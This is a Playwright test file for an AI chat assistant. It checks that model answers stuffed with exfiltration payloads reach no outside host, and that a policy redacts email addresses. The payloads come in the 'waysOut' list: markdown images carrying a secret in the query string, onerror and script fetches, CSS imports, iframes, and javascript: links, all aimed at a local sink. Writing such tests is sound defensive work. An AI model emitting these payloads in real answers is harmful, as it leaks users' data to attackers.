import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { expect, type Page, test } from "playwright/test";
import { connect } from "../support/client";
import { corpus } from "../support/corpora";
import { owner, ownerWithHandbook, type Standing, signedIn, stand } from "./standing";

// T40: an answer that would take something out by being shown. Nothing of it asks another host for anything, neither the browser
// nor the server that draws the page; and what a policy found in an answer stands beside it.

let standing: Standing;
let sink: Server;
let foreign: string;
let taken: string[];
test.beforeAll(async () => {
	test.setTimeout(180_000);
	taken = [];
	sink = createServer(({ url }, response) => {
		taken.push(url ?? "");
		response.writeHead(200, { "content-type": "image/svg+xml", "access-control-allow-origin": "*" });
		response.end("<svg xmlns='http://www.w3.org/2000/svg'/>");
	});
	await new Promise<void>((resolve) => sink.listen(0, "127.0.0.1", resolve));
	foreign = `http://localhost:${(sink.address() as AddressInfo).port}`;
	standing = await stand();
	await ownerWithHandbook(standing);
});
test.afterAll(async () => {
	sink?.close();
	await standing?.remove();
});

const secret = "d=25-days-of-leave";
/** Ways out that a rendered text has had somewhere. */
const waysOut = (to: string): string[] => [
	`![a](${to}/inline.png?${secret})`,
	`![a][ref]\n\n[ref]: ${to}/reference.png?${secret}`,
	`![a](//${to.slice("http://".length)}/scheme.png?${secret})`,
	`[![a](${to}/linked.png?${secret})](${to}/link?${secret})`,
	`[Click here](${to}/link?${secret} "title") and <${to}/auto?${secret}> and ${to}/bare?${secret}`,
	`<img src="${to}/img.png?${secret}" onerror="fetch('${to}/onerror')">`,
	`<picture><source srcset="${to}/source.png 1x"><img srcset="${to}/srcset.png 1x"></picture>`,
	`<iframe src="${to}/frame"></iframe><object data="${to}/object"></object><embed src="${to}/embed">`,
	`<style>@import url("${to}/import.css"); body { background: url(${to}/css.png?${secret}) }</style>`,
	`<div style="background-image:url('${to}/style.png?${secret}')">x</div>`,
	`<svg><image href="${to}/svg.png"/><use href="${to}/use.svg#a"/></svg>`,
	`<link rel="stylesheet" href="${to}/link.css"><link rel="preload" as="image" href="${to}/preload"><link rel="dns-prefetch" href="${to}">`,
	`<script src="${to}/script.js"></script><script>fetch("${to}/script-fetch")</script>`,
	`<meta http-equiv="refresh" content="0;url=${to}/refresh"><base href="${to}/">`,
	`<video poster="${to}/poster.png"><track src="${to}/track.vtt"></video><audio src="${to}/audio.mp3" autoplay></audio>`,
	`<form action="${to}/form"><input name="d" value="1"></form><a ping="${to}/ping" href="/chat">a</a>`,
	`![a](/_next/image?url=${encodeURIComponent(`${to}/next.png?${secret}`)}&w=640&q=75)`,
	`\`\`\`mermaid\ngraph TD; A["<img src=${to}/mermaid.png>"] --> B; click A "${to}/click"\n\`\`\``,
	`$$\\href{${to}/tex}{x} \\includegraphics{${to}/tex.png}$$`,
	`| a |\n|---|\n| ![x](${to}/table.png?${secret}) |`,
	`[^1]\n\n[^1]: ![x](${to}/footnote.png?${secret})`,
	`data:text/html,<img src=${to}/data.png> and [x](javascript:fetch('${to}/js'))`,
];

/** Everything that a page asks another origin for, or tries to. */
function watch(page: Page): string[] {
	const tried: string[] = [];
	const own = new URL(standing.url).origin;
	page.on("request", (request) => {
		const { origin, protocol } = new URL(request.url());
		if (origin !== own && protocol.startsWith("http")) tried.push(request.url());
	});
	page.on("websocket", (socket) => {
		if (new URL(socket.url()).host !== new URL(own).host) tried.push(socket.url());
	});
	return tried;
}

async function ask(page: Page, question: string): Promise<void> {
	await page.getByRole("textbox", { name: "Ask a question" }).fill(question);
	await page.getByRole("button", { name: "Ask", exact: true }).click();
	await expect(page.getByRole("button", { name: "Stop", exact: true })).toBeHidden({ timeout: 30_000 });
}

test("an answer full of ways out is shown, and asks no other host for anything", async ({ browser }) => {
	test.setTimeout(150_000);
	const page = await signedIn(browser, standing.url, owner);
	const tried = watch(page);
	const popups: string[] = [];
	page.context().on("page", (other) => popups.push(other.url()));
	const others = corpus<{ payload: string }>("xss_markdown", []).map(({ payload }) => payload);
	const answers = [waysOut(foreign), others].map(
		(some) => `All staff get 25 days [1].\n\n${some.join("\n\n")}\n\nEnd.`,
	);
	for (const text of answers) {
		standing.provider.next({ text, intervalMs: 1 });
		await page.goto("/chat");
		await ask(page, "How many days of annual leave do staff get?");
		await expect(page.getByRole("article").last()).toContainText("25 days");
		// As it is drawn by the server too, and as whoever it is shared with sees it.
		await page.reload();
		await expect(page.getByRole("article").last()).toContainText("25 days");
		await page.waitForLoadState("networkidle");
		const article = page.getByRole("article").last();
		await expect(
			article.locator("img, iframe, object, embed, style, link, script, svg image, video, audio, form"),
		).toHaveCount(0);
	}
	expect(popups).toEqual([]);
	expect(tried).toEqual([]);
	expect(taken).toEqual([]);
	await page.context().close();
});

test("the server's own fetcher of pictures takes none of another host", async ({ browser }) => {
	const page = await signedIn(browser, standing.url, owner);
	for (const url of [`${foreign}/next.png`, `//${new URL(foreign).host}/next.png`]) {
		const { status } = await page.evaluate(async (address) => {
			const response = await fetch(`/_next/image?url=${encodeURIComponent(address)}&w=640&q=75`);
			return { status: response.status };
		}, url);
		expect(status).toBeGreaterThanOrEqual(400);
	}
	expect(taken).toEqual([]);
	await page.context().close();
});

test("a policy is made, tried, covers an answer while it is said, and what it found is seen", async ({ browser }) => {
	test.setTimeout(120_000);
	const { api } = await connect(standing.url, owner);
	await api.safety.create.mutate({
		name: "No mail addresses",
		detector: "personal",
		modes: { input: "off", retrieved: "off", arguments: "off", results: "off", output: "redact" },
	});
	const page = await signedIn(browser, standing.url, owner);
	await page.goto("/safety");
	await expect(page.getByText("No mail addresses").filter({ visible: true }).first()).toBeVisible();
	standing.provider.next({ text: "Ask eve.moss@harbour.example for 25 days of annual leave [1].", intervalMs: 20 });
	await page.goto("/chat");
	await ask(page, "Whom do I ask for annual leave?");
	await expect(page.getByRole("article").last()).toContainText(/\[e-mail address [a-z]{8}\]/);
	await expect(page.locator("body")).not.toContainText("eve.moss");
	await page.goto("/safety");
	await expect(page.locator("body")).not.toContainText("eve.moss");
	await page.context().close();
});
